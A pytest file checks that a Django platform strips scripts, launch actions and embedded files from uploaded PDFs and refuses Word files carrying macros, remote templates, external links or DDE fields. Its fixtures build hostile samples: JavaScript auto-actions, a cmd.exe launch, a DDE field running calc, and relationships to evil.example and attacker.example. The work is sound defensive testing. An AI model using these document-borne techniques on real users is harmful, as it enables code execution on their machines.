"""Active content: a PDF's scripts, actions and embedded files are removed (on upload and in every
watermarked copy); Office files with macros or external references are refused at upload, web and API."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from kpo.confidentiality.models import Download
from kpo.confidentiality.tokens import document_url
from kpo.core.errors import DomainError
from kpo.core.uploads import check_upload
from kpo.engine.watermark import watermark_pdf
from kpo.engine.watermark.active import ActiveContent, office_active_content, pdf_active_content
from kpo.work.models import DeliverableVersion, TaskDocument
from tests.api.conftest import Call, call, token_for  # noqa: F401
from tests.cast import Cast

pytestmark = pytest.mark.django_db

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _action(writer: PdfWriter, kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return action


def hostile_pdf() -> bytes:
    """A one-page PDF that runs JavaScript on opening, on page open, from a link, launches a
    program, and carries an embedded executable."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=300, height=300)
    script = _action(writer, "/JavaScript", JS=TextStringObject("app.alert('owned')"))
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(script)
    writer.root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _action(writer, "/JavaScript", JS=TextStringObject("app.alert(2)"))}
    )
    writer.add_attachment("payload.exe", b"MZ\x90\x00payload")
    named = _action(writer, "/JavaScript", JS=TextStringObject("app.alert('named');"))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(named)])}
    )
    writer.root_object["/Names"].get_object()[NameObject("/JavaScript")] = writer._add_object(tree)
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action(writer, "/JavaScript", JS=TextStringObject("app.alert(3)"))}
    )
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): _action(writer, "/Launch", F=TextStringObject("cmd.exe")),
        }
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): _action(writer, "/URI", URI=TextStringObject("https://example.com/")),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(launch), writer._add_object(link)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _assert_inert(data: bytes) -> None:
    reader = PdfReader(io.BytesIO(data))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/AA" not in root
    names = root.get("/Names")
    assert names is None or ("/JavaScript" not in names and "/EmbeddedFiles" not in names)
    page = reader.pages[0]
    assert "/AA" not in page
    actions = [annotation.get_object().get("/A") for annotation in page.get("/Annots", [])]
    assert [action["/S"] for action in actions if action is not None] == ["/URI"]
    for marker in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"payload", b"app.alert"):
        assert marker not in data, marker


def docx(*, extra: dict[str, bytes] | None = None, rels: str = "", content_types: str = "") -> bytes:
    """A real Word document (python-docx) with parts and relationships added to it."""
    import docx as python_docx

    buffer = io.BytesIO()
    document = python_docx.Document()
    document.add_paragraph("Quarterly findings.")
    document.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels" and rels:
                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
            if item.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types.encode() + b"</Types>")
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


MACRO_DOCX = dict(
    extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"},
    rels=(
        '<Relationship Id="rIdVba" Target="vbaProject.bin" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
    ),
    content_types=(
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
)
EXTERNAL_IMAGE = (
    f'<Relationship Id="rIdX" Type="{REL}/image" Target="http://evil.example/x.png" TargetMode="External"/>'
)
REMOTE_TEMPLATE = (
    f'<Relationship Id="rIdT" Type="{REL}/attachedTemplate" '
    'Target="https://attacker.example/t.dotm" TargetMode="External"/>'
)
ALT_CHUNK = f'<Relationship Id="rIdC" Type="{REL}/aFChunk" Target="chunk.mht"/>'
HYPERLINK = (
    f'<Relationship Id="rIdH" Type="{REL}/hyperlink" Target="https://example.com/" TargetMode="External"/>'
)


def _dde_docx() -> bytes:
    data = docx()
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            part = source.read(item.filename)
            if item.filename == "word/document.xml":
                part = part.replace(b"<w:sectPr", field + b"<w:sectPr", 1)
            target.writestr(item.filename, part)
    return out.getvalue()


# --- PDFs ----------------------------------------------------------------------------------------------


def test_the_hostile_pdf_is_hostile() -> None:
    found = set(pdf_active_content(hostile_pdf()))
    assert {"/OpenAction", "/AA", "/JavaScript", "/EmbeddedFiles", "/Launch"} <= found


def test_a_watermarked_pdf_loses_scripts_actions_and_embedded_files() -> None:
    marked = watermark_pdf(hostile_pdf(), 7, "Carol Expert", dt.date(2026, 12, 1))
    _assert_inert(marked)
    assert pdf_active_content(marked) == []


def test_a_pdf_is_cleaned_at_upload_and_the_client_gets_the_clean_copy(cast: Cast, client_for) -> None:  # type: ignore[no-untyped-def]
    response = client_for("bob").post(
        reverse("task_document_upload", kwargs={"task_id": cast.task_a.pk}),
        {"doc-title": "Scripted brief", "doc-file": SimpleUploadedFile("brief.pdf", hostile_pdf())},
    )
    assert response.status_code == 302
    document = TaskDocument.objects.get(task=cast.task_a, title="Scripted brief")
    with document.file.open("rb") as stored:
        kept = stored.read()
    _assert_inert(kept)
    assert document.size == len(kept)
    served = client_for("bob").get(document_url(cast.bob.pk, document))
    _assert_inert(b"".join(served.streaming_content) if served.streaming else served.content)


def test_a_stored_hostile_pdf_is_served_to_the_expert_without_its_scripts(cast: Cast, client_for) -> None:  # type: ignore[no-untyped-def]
    document = cast.document_a
    document.original_name, document.content_type = "old.pdf", "application/pdf"
    document.file.save("old.pdf", ContentFile(hostile_pdf()), save=True)
    response = client_for("carol").get(document_url(cast.carol.pk, document))
    assert response.status_code == 200 and Download.objects.get().watermarked
    _assert_inert(b"".join(response.streaming_content) if response.streaming else response.content)


def test_an_unreadable_pdf_naming_javascript_is_refused() -> None:
    with pytest.raises(DomainError) as refused:
        check_upload(io.BytesIO(b"%PDF-1.4\n1 0 obj <</S /JavaScript /JS (x)>> garbage"), "x.pdf")
    assert refused.value.field == "file" and "could not be removed" in str(refused.value)


# --- Office files --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason", "words"),
    [
        (lambda: docx(**MACRO_DOCX), ActiveContent.MACROS, "macros"),
        (lambda: docx(extra={"word/vbaProject.bin": b"VBA"}), ActiveContent.MACROS, "macros"),
        (lambda: docx(rels=EXTERNAL_IMAGE), ActiveContent.EXTERNAL_RELATIONSHIP, "external relationship"),
        (lambda: docx(rels=REMOTE_TEMPLATE), ActiveContent.ATTACHED_TEMPLATE, "template"),
        (lambda: docx(rels=ALT_CHUNK), ActiveContent.ALT_CHUNK, "altChunk"),
        (_dde_docx, ActiveContent.DDE_FIELD, "DDE"),
    ],
)
def test_office_files_with_active_content_are_refused(data, reason: ActiveContent, words: str) -> None:  # type: ignore[no-untyped-def]
    content = data()
    assert office_active_content(content) is reason
    with pytest.raises(DomainError) as refused:
        check_upload(io.BytesIO(content), "report.docx", field="evidence")
    assert refused.value.field == "evidence" and words in str(refused.value)


def test_a_plain_document_with_a_hyperlink_is_accepted() -> None:
    checked = check_upload(io.BytesIO(docx(rels=HYPERLINK)), "report.docx")
    assert checked.content_type == DOCX_TYPE and checked.cleaned is None


def _stored_files() -> int:
    root = Path(django_settings.MEDIA_ROOT)
    return sum(1 for p in root.rglob("*") if p.is_file()) if root.exists() else 0


def test_a_macro_docx_is_refused_on_the_web_and_nothing_is_stored(cast: Cast, client_for) -> None:  # type: ignore[no-untyped-def]
    documents, versions, files = (
        TaskDocument.objects.count(),
        DeliverableVersion.objects.count(),
        _stored_files(),
    )
    response = client_for("bob").post(
        reverse("task_document_upload", kwargs={"task_id": cast.task_a.pk}),
        {"doc-title": "Macro", "doc-file": SimpleUploadedFile("brief.docx", docx(**MACRO_DOCX))},
    )
    assert response.status_code == 400
    assert "macros" in " ".join(response.context["forms"]["document"].errors["file"])
    response = client_for("carol").post(
        reverse("deliverable_upload", kwargs={"task_id": cast.task_a.pk}),
        {"deliv-title": "Report", "deliv-file": SimpleUploadedFile("r.docx", docx(rels=REMOTE_TEMPLATE))},
    )
    assert response.status_code == 400 and "template" in response.content.decode()
    assert (TaskDocument.objects.count(), DeliverableVersion.objects.count()) == (documents, versions)
    assert _stored_files() == files


def test_a_macro_docx_is_refused_by_the_api_and_nothing_is_stored(cast: Cast, call: Call) -> None:  # noqa: F811
    documents, versions, files = (
        TaskDocument.objects.count(),
        DeliverableVersion.objects.count(),
        _stored_files(),
    )
    base = f"/api/tasks/{cast.task_a.pk}"
    response = call(
        "POST",
        f"{base}/documents",
        "bob",
        data={"title": "M", "file": SimpleUploadedFile("m.docx", docx(**MACRO_DOCX))},
    )
    assert response.status_code == 409
    error = response.json()["errors"][0]
    assert error["field"] == "file" and "macros" in error["message"]
    response = call(
        "POST",
        f"{base}/deliverables",
        "carol",
        data={"title": "R", "file": SimpleUploadedFile("r.docx", _dde_docx())},
    )
    assert response.status_code == 409 and "DDE" in response.json()["errors"][0]["message"]
    assert (TaskDocument.objects.count(), DeliverableVersion.objects.count()) == (documents, versions)
    assert _stored_files() == files


def test_a_macro_docx_is_refused_as_vetting_evidence_and_nothing_is_stored(cast: Cast) -> None:
    from kpo.vetting.models import Credential
    from kpo.vetting.services.credentials import credential_add
    from tests.vetting.helpers import evidence

    files = _stored_files()
    with pytest.raises(DomainError) as refused:
        credential_add(
            user=cast.carol,
            expert=cast.carol.expert_profile,
            kind="certification",
            title="Six Sigma Green Belt",
            upload=evidence("belt.docx", docx(**MACRO_DOCX)),
        )
    assert refused.value.field == "file" and "macros" in str(refused.value)
    assert not Credential.objects.exists() and _stored_files() == files
